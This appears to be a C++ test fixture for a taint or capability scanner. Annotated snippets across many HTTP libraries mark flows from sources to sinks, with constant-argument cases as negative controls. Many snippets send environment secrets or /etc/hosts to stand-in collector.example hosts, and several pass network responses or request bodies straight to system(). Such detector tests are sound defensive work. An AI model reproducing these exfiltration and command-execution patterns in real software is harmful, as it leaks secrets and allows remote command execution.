// HTTP libraries.
#include <cpr/cpr.h>

void post() {
    cpr::Response r = cpr::Post(cpr::Url("https://cpr.collector.example/u"), cpr::Body(getenv("T"))); //~ source(ENVIRONMENT) f1, sink(egress.http) f1, finding(traced) f1, capability(NETWORK), endpoint("https://cpr.collector.example/u")
}

void post_file() {
    cpr::Post(cpr::Url("https://cpr.collector.example/u"), cpr::Multipart{{"f", cpr::File("/etc/hosts")}}); //~ source(FILE) f2, sink(egress.http) f2, finding(traced) f2, capability(FILES)
}

void get_and_run() {
    cpr::Response r = cpr::Get(cpr::Url("https://cpr.collector.example/u")); //~ source(NETWORK) f3
    system(r.text.c_str()); //~ sink(exec.command) f3, finding(traced) f3
}

void call_back() {
    cpr::PostCallback([](cpr::Response r) { //~ source(NETWORK) f4, capability(NETWORK)
        system(r.text.c_str()); //~ sink(exec.command) f4, finding(traced) f4
    }, cpr::Url("https://cpr.collector.example/u"));
}

void call_back_sent() {
    cpr::PostCallback([](cpr::Response r) {}, cpr::Url("https://cpr.collector.example/u"), cpr::Body(getenv("T"))); //~ source(ENVIRONMENT) f5, sink(egress.http) f5, finding(traced) f5
}

void session_url() {
    cpr::Session session;
    session.SetUrl(cpr::Url(getenv("T"))); //~ source(ENVIRONMENT) f6
    session.Get(); //~ sink(egress.http) f6, finding(traced) f6, capability(NETWORK)
}

void session_body() {
    cpr::Session session;
    session.SetBody(cpr::Body(getenv("T"))); //~ source(ENVIRONMENT) f7
    session.Post(); //~ sink(egress.http) f7, finding(traced) f7
}

void constants() {
    cpr::Post(cpr::Url("https://cpr.collector.example/u"), cpr::Body("x")); //~ ok
    auto file = cpr::File("/etc/hosts"); //~ ok
    cpr::PostCallback([](cpr::Response r) {}, cpr::Url("https://cpr.collector.example/u")); //~ ok
    cpr::Session session;
    session.SetUrl(cpr::Url("https://cpr.collector.example/u")); //~ ok
    session.SetBody(cpr::Body("x")); //~ ok
    session.Post(); //~ ok
}

void client() {
    httplib::Client c("https://hl.collector.example"); //~ capability(NETWORK), endpoint("https://hl.collector.example")
    c.Post("/u", getenv("T"), "text/plain"); //~ source(ENVIRONMENT) f9, sink(egress.http) f9, finding(traced) f9, capability(NETWORK)
}

void client_header() {
    httplib::Client c("https://hl.collector.example");
    c.set_bearer_token_auth(getenv("T")); //~ source(ENVIRONMENT) f10
    c.Get("/u"); //~ sink(egress.http) f10, finding(traced) f10
}

void server() {
    httplib::Server s;
    s.Post("/u", [](const httplib::Request &q, httplib::Response &a) { //~ source(NETWORK) f11, capability(NETWORK)
        system(q.body.c_str()); //~ sink(exec.command) f11, finding(traced) f11
    });
}

void server_answer(httplib::Response &a) {
    a.set_content(getenv("T"), "text/plain"); //~ source(ENVIRONMENT) f12, sink(egress.http) f12, finding(traced) f12
}

void client_constants(httplib::Server &s, httplib::Response &a) {
    httplib::Client c("https://hl.collector.example"); //~ ok
    c.set_bearer_token_auth("x"); //~ ok
    c.Post("/u", "x", "text/plain"); //~ ok
    s.Post("/u", [](const httplib::Request &q, httplib::Response &r) {}); //~ ok
    a.set_content("pong", "text/plain"); //~ ok
}

void easy() {
    curlpp::Easy r;
    r.setOpt(new curlpp::options::PostFields(getenv("T"))); //~ source(ENVIRONMENT) f14
    r.perform(); //~ sink(egress.http) f14, finding(traced) f14, capability(NETWORK)
}

void easy_file() {
    curlpp::Easy r;
    r.setOpt(new curlpp::FormParts::File("f", "/etc/hosts")); //~ source(FILE) f15, capability(FILES)
    r.perform(); //~ sink(egress.http) f15, finding(traced) f15
}

void easy_constant() {
    curlpp::Easy r;
    r.setOpt(new curlpp::options::PostFields("x")); //~ ok
    r.setOpt(new curlpp::FormParts::File("f", "/etc/hosts"));
    auto f = new curlpp::FormParts::File("f", "/etc/hosts"); //~ ok
}

void easy_constants() {
    curlpp::Easy r;
    r.setOpt(new curlpp::options::Url("https://collector.example")); //~ ok
    r.perform(); //~ ok
}

void rest() {
    auto r = RestClient::post("https://rest.collector.example/u", "text/plain", getenv("T")); //~ source(ENVIRONMENT) f18, sink(egress.http) f18, finding(traced) f18, capability(NETWORK), endpoint("https://rest.collector.example/u")
}

void rest_read() {
    system(RestClient::get("https://rest.collector.example/u").body.c_str()); //~ source(NETWORK) f19, sink(exec.command) f19, finding(traced) f19
}

void rest_connection() {
    RestClient::Connection c("https://rest.collector.example"); //~ capability(NETWORK), endpoint("https://rest.collector.example")
    c.post("/u", getenv("T")); //~ source(ENVIRONMENT) f20, sink(egress.http) f20, finding(traced) f20, capability(NETWORK)
}

void rest_header(RestClient::Connection &c) {
    c.AppendHeader("X-Token", getenv("T")); //~ source(ENVIRONMENT) f21
    c.get("/u"); //~ sink(egress.http) f21, finding(traced) f21
}

void rest_constants() {
    RestClient::post("https://rest.collector.example/u", "text/plain", "x"); //~ ok
    RestClient::Connection c("https://rest.collector.example"); //~ ok
    c.AppendHeader("X-Version", "1"); //~ ok
    c.post("/u", "x"); //~ ok
}

void sdk() {
    web::http::client::http_client c("https://sdk.collector.example"); //~ capability(NETWORK), endpoint("https://sdk.collector.example")
    c.request(web::http::methods::POST, "/u", getenv("T")); //~ source(ENVIRONMENT) f23, sink(egress.http) f23, finding(traced) f23, capability(NETWORK)
}

void sdk_request(web::http::client::http_client &c) {
    web::http::http_request r(web::http::methods::POST);
    r.set_body(getenv("T")); //~ source(ENVIRONMENT) f24
    c.request(r); //~ sink(egress.http) f24, finding(traced) f24
}

void sdk_header(web::http::client::http_client &c) {
    web::http::http_request r(web::http::methods::POST);
    r.headers().add("X-Token", getenv("T")); //~ source(ENVIRONMENT) f25
    c.request(r); //~ sink(egress.http) f25, finding(traced) f25
}

void sdk_response(web::http::client::http_client &c) {
    c.request(web::http::methods::GET).then([](web::http::http_response r) {
        return r.extract_string(); //~ source(NETWORK) f26
    }).then([](std::string body) {
        system(body.c_str()); //~ sink(exec.command) f26, finding(traced) f26
    });
}

void sdk_constants() {
    web::http::client::http_client c("https://sdk.collector.example"); //~ ok
    web::http::http_request r(web::http::methods::POST);
    r.set_body("x"); //~ ok
    r.headers().add("X-Version", "1"); //~ ok
    c.request(r).then([](web::http::http_response a) { return a.extract_string(); }); //~ ok
}

void dragon() {
    auto c = drogon::HttpClient::newHttpClient("https://dg.collector.example"); //~ capability(NETWORK), endpoint("https://dg.collector.example")
    auto r = drogon::HttpRequest::newHttpRequest();
    r->setBody(getenv("T")); //~ source(ENVIRONMENT) f28
    c->sendRequest(r, [](drogon::ReqResult e, const drogon::HttpResponsePtr &a) {}); //~ sink(egress.http) f28, finding(traced) f28, capability(NETWORK)
}

void dragon_json(drogon::HttpClientPtr c, Json::Value v) {
    v["t"] = getenv("T"); //~ source(ENVIRONMENT) f29
    auto r = drogon::HttpRequest::newHttpJsonRequest(v);
    c->sendRequest(r, [](drogon::ReqResult e, const drogon::HttpResponsePtr &a) {}); //~ sink(egress.http) f29, finding(traced) f29
}

void dragon_handler(const drogon::HttpRequestPtr &q) {
    system(q->getParameter("c").c_str()); //~ source(NETWORK) f30, sink(exec.command) f30, finding(traced) f30
    auto r = drogon::HttpResponse::newHttpResponse();
    r->setBody("x");
}

void dragon_answer(const drogon::HttpRequestPtr &q) {
    auto r = drogon::HttpResponse::newHttpResponse();
    r->setBody(getenv("T")); //~ source(ENVIRONMENT) f31, sink(egress.http) f31, finding(traced) f31
}

void dragon_answer_json(const drogon::HttpRequestPtr &q, Json::Value v) {
    v["t"] = getenv("T"); //~ source(ENVIRONMENT) f32
    auto r = drogon::HttpResponse::newHttpJsonResponse(v); //~ sink(egress.http) f32, finding(traced) f32
}

void dragon_file(const drogon::HttpRequestPtr &q) {
    auto r = drogon::HttpResponse::newFileResponse("/etc/hosts"); //~ source(FILE) f33, sink(egress.http) f33, finding(traced) f33, capability(FILES)
}

void dragon_constants(const drogon::HttpRequestPtr &q, Json::Value v) {
    auto c = drogon::HttpClient::newHttpClient("https://dg.collector.example"); //~ ok
    auto r = drogon::HttpRequest::newHttpRequest(); //~ ok
    r->setBody("x"); //~ ok
    c->sendRequest(r, [](drogon::ReqResult e, const drogon::HttpResponsePtr &a) {}); //~ ok
    q->getParameter("c"); //~ ok
    auto a = drogon::HttpResponse::newHttpResponse(); //~ ok
    a->setBody("x"); //~ ok
    auto b = drogon::HttpResponse::newHttpJsonResponse(v); //~ ok
    auto send_file = drogon::HttpResponse::newFileResponse; //~ ok
}

void crow_handler(const crow::request &q) {
    system(q.body.c_str()); //~ source(NETWORK) f35, sink(exec.command) f35, finding(traced) f35
}

crow::response crow_answer(const crow::request &q) {
    return crow::response(getenv("T")); //~ source(ENVIRONMENT) f36, sink(egress.http) f36, finding(traced) f36
}

void crow_written(const crow::request &q, crow::response &a) {
    a.write(getenv("T")); //~ source(ENVIRONMENT) f37, sink(egress.http) f37, finding(traced) f37
}

void crow_constants(const crow::request &q, crow::response &a) {
    auto b = q.body; //~ ok
    auto r = crow::response("x"); //~ ok
    a.write("x"); //~ ok
}

void rest_handler(const Pistache::Rest::Request &q, Pistache::Http::ResponseWriter a) {
    system(q.body().c_str()); //~ source(NETWORK) f39, sink(exec.command) f39, finding(traced) f39
}

void rest_answer(const Pistache::Rest::Request &q, Pistache::Http::ResponseWriter a) {
    a.send(Pistache::Http::Code::Ok, getenv("T")); //~ source(ENVIRONMENT) f40, sink(egress.http) f40, finding(traced) f40, capability(NETWORK)
}

void rest_file(const Pistache::Rest::Request &q, Pistache::Http::ResponseWriter a) {
    Pistache::Http::serveFile(a, "/etc/hosts"); //~ source(FILE) f41, sink(egress.http) f41, finding(traced) f41, capability(FILES)
}

void rest_client(Pistache::Http::Client &c) {
    c.post("https://pi.collector.example").body(getenv("T")).send(); //~ source(ENVIRONMENT) f42, sink(egress.http) f42, finding(traced) f42, capability(NETWORK), endpoint("https://pi.collector.example")
}

void rest_client_read(Pistache::Http::Client &c) {
    auto r = c.get("https://pi.collector.example").send(); //~ source(NETWORK) f43
    system(r.body().c_str()); //~ sink(exec.command) f43, finding(traced) f43
}

void rest_client_constants(const Pistache::Rest::Request &q, Pistache::Http::ResponseWriter a, Pistache::Http::Client &c) {
    auto b = q.body(); //~ ok
    a.send(Pistache::Http::Code::Ok, "x"); //~ ok
    auto serve = Pistache::Http::serveFile; //~ ok
    c.post("https://pi.collector.example").body("x").send(); //~ ok
}

void loader(std::unique_ptr<network::SimpleURLLoader> l) {
    l->AttachStringForUpload(getenv("T"), "text/plain"); //~ source(ENVIRONMENT) f45, sink(egress.http) f45, finding(traced) f45, capability(NETWORK)
    l->AttachStringForUpload("x", "text/plain"); //~ ok
}

void loader_file(std::unique_ptr<network::SimpleURLLoader> l) {
    l->AttachFileForUpload("/etc/hosts", "text/plain"); //~ source(FILE) f46, sink(egress.http) f46, finding(traced) f46, capability(FILES)
    l->AttachFileForUpload; //~ ok
}

void engine(TSharedRef<IHttpRequest> r) {
    r->SetContentAsString(getenv("T")); //~ source(ENVIRONMENT) f47
    r->ProcessRequest(); //~ sink(egress.http) f47, finding(traced) f47, capability(NETWORK)
}

void engine_constant(TSharedRef<IHttpRequest> r) {
    r->SetContentAsString("x"); //~ ok
    r->ProcessRequest(); //~ ok
}

void ix_client(ix::HttpClient &c, ix::HttpRequestArgsPtr args) {
    c.post("https://ix.collector.example/u", getenv("T"), args); //~ source(ENVIRONMENT) f49, sink(egress.http) f49, finding(traced) f49, capability(NETWORK), endpoint("https://ix.collector.example/u")
    c.post("https://ix.collector.example/u", "x", args); //~ ok
}

void own_message(Message &m, std::string &out, int s) {
    m.body() = getenv("T"); //~ source(ENVIRONMENT) f50
    send(s, &m, 9, 0); //~ sink(egress.socket) f50, finding(traced) f50
}

void own_message_constant(Message &m, int s) {
    m.body() = "x"; //~ ok
    send(s, &m, 9, 0); //~ ok
}
